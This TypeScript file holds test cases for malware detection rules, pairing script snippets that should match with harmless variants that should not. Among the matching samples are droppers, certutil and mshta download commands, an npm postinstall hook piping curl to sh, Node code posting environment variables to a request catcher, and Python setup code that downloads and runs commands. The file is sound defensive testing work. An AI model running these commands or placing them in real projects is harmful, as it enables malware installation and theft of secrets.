import type { RuleCase } from './rule-case.ts'

const HTTP = 'http://192.0.2.1/a'
const ACTIVE = 'new ActiveX¦Object('
const SHELL = '"WScript.¦Shell"'
const WORKS = `"name": "a", "version": "1.0.0"`

export const SCRIPT_CASES: readonly RuleCase[] = [
  {
    rule: 'Script_Host_Dropper',
    hit: `var x=${ACTIVE}"MSXML2.¦XMLHTTP");var s=${ACTIVE}"ADODB.¦Stream");s.SaveTo¦File("a.exe");${ACTIVE}${SHELL}).Run("a.exe")`,
    swap: ['SaveTo¦File', 'ReadText'],
    because: 'it writes nothing',
    moreMisses: [`var x=${ACTIVE}"MSXML2.XMLHTTP"); x.open("GET", "/list"); x.send()`],
  },
  {
    rule: 'Living_Off_The_Land_Download',
    hit: `certu¦til.exe -url¦cache -split -f ${HTTP} a.exe`,
    swap: ['-url¦cache', '-hashfile'],
    because: 'it makes a checksum',
    moreHits: [`msh¦ta ${HTTP}.hta`, `regs¦vr32 /s /n /u /i:${HTTP}.sct scrobj.dll`],
    moreMisses: [`bitsadmin /list; see ${HTTP}`],
  },
  {
    rule: 'JavaScript_Evaluates_Packed_Text',
    hit: `ev¦al(unes¦cape("${'%41'.repeat(80)}"))`,
    swap: ['ev¦al(', 'show('],
    because: 'the text is shown',
    moreHits: [`ev¦al(String.from¦CharCode(${'97,'.repeat(60)}98))`],
    moreMisses: ['eval(unescape("%41%42"))'],
  },
  {
    rule: 'Script_Starts_Hidden_PowerShell',
    hit: `Create¦Object(${SHELL}).Run "power¦shell -w hid¦den -file a.ps1", 0`,
    swap: ['-w hid¦den', '-NoLogo'],
    because: 'the window is seen',
  },
  {
    rule: 'Script_Hidden_By_Codes_Runs_Command',
    hit: `x = String.fromChar¦Code(${'87,'.repeat(40)}88); new ActiveX¦Object(x); ev¦al(x)`,
    swap: ['87,87,87', 'y'],
    because: 'no long chain of codes',
  },
  {
    rule: 'VBScript_Writes_Decoded_Program',
    hit: `n.dataType = "bin.base¦64": b = n.nodeTyped¦Value: Set s = Create¦Object("ADODB.¦Stream"): s.SaveTo¦File f: Create¦Object(${SHELL})`,
    swap: ['bin.base¦64', 'string'],
    because: 'no program is decoded',
  },
  {
    rule: 'Script_Encoded_For_Script_Host',
    hit: '#@¦~^BwAAAA==\\ko$K6,FqAIAAA==^#¦~@',
    swap: ['#@¦~^', '#@~~'],
    because: 'not the head of an encoded script',
  },
  {
    rule: 'Wsf_Job_Runs_Command',
    hit: `<job id="a"><script language="VBScript">Set s = Get(${SHELL}) : s.x "cmd /c dir"</script></job>`,
    swap: ['<job', '<div'],
    because: 'no Windows script file',
  },
  {
    rule: 'Hta_Hides_And_Runs_Command',
    hit: `<script>window.resize¦To(0,0); s = Get(${SHELL}); s.x("cmd /c dir")</script>`,
    swap: ['resize¦To(0,0)', 'resizeTo(640,480)'],
    because: 'the window is seen',
  },
  {
    rule: 'Scriptlet_Runs_Command',
    hit: '<script¦let><regis¦tration progid="a"><script><![CDATA[ new ActiveX¦Object("a").R¦un("calc") ]]></script>',
    swap: ['.R¦un(', '.Name('],
    because: 'it starts nothing',
  },
  {
    rule: 'Stylesheet_Runs_Command',
    hit: '<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script implements-prefix="u">new ActiveX¦Object("a").R¦un("calc")',
    swap: ['ActiveX¦Object(', 'Date('],
    because: 'a script that formats dates',
  },
  {
    rule: 'Build_File_Runs_Machine_Code',
    hit: '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Using¦Task TaskFactory="CodeTask¦Factory"><Task><Code Type="Class">Virtual¦Alloc</Code>',
    swap: ['Virtual¦Alloc', 'Log.LogMessage'],
    because: 'a task that writes to the log',
  },
  {
    rule: 'Batch_Fetches_And_Starts',
    hit: `@ec¦ho off\r\ncurl ${HTTP} -o %te¦mp%\\a.exe\r\nstart /b %te¦mp%\\a.exe`,
    swap: ['start /b ', 'del '],
    because: 'it starts nothing',
  },
  {
    rule: 'Batch_Words_Cut_From_Variables',
    hit: `set a=abc\r\n${'%a:~1,¦1%'.repeat(80)}`,
    swap: ['%a:~1,¦1%%a:~1,¦1%', '%a% %b% '],
    because: 'whole variables',
  },
  {
    rule: 'Batch_Carries_PowerShell_Payload',
    hit: '@ec¦ho off\r\npower¦shell -c "$t=[IO.File]::ReadAll¦Text(\'%~f¦0\');[Reflection.Assem¦bly]::Load([Convert]::FromBase¦64String($t))"',
    swap: ['%~f¦0', 'list.txt'],
    because: 'it reads another file',
  },
  {
    rule: 'AutoIt_Script_Injects_Code',
    hit: '#NoTray¦Icon\nDll¦Call("kernel32.dll", "ptr", "Virtual¦Alloc")\nDll¦Call("user32.dll", "int", "CallWindow¦Proc")',
    swap: ['CallWindow¦Proc', 'MessageBox'],
    because: 'nothing starts the memory',
  },
  {
    rule: 'Npm_Hook_Runs_Download',
    hit: `{ ${WORKS}, "scripts": { "post¦install": "cu¦rl https://a.example/x | s¦h" } }`,
    swap: ['"post¦install"', '"deploy"'],
    because: 'it runs only when it is called',
  },
  {
    rule: 'Node_Sends_Environment_Away',
    hit: 'const d = JSON.stringify(process.¦env); fetch("https://a1b2.oast¦ify.com/", { method: "POST", body: d })',
    swap: ['oast¦ify.com', 'metrics.example'],
    because: 'a server that is no catcher of requests',
  },
  {
    rule: 'Python_Runs_Packed_Code',
    hit: "ex¦ec(zlib.decom¦press(b'x'))",
    swap: ['ex¦ec(', 'print('],
    because: 'the text is printed',
    moreHits: ["ex¦ec(__import__('base¦64').b64de¦code('eA=='))"],
  },
  {
    rule: 'Python_Setup_Runs_Download',
    hit: 'import tempfile\nclass A(install):\n  def run(self):\n    d = url¦open("http://192.0.2.1/a")\n    os.sys¦tem(d)\nsetup(cmdclass={"install": A})',
    swap: ['os.sys¦tem(', 'print('],
    because: 'it runs nothing',
  },
]
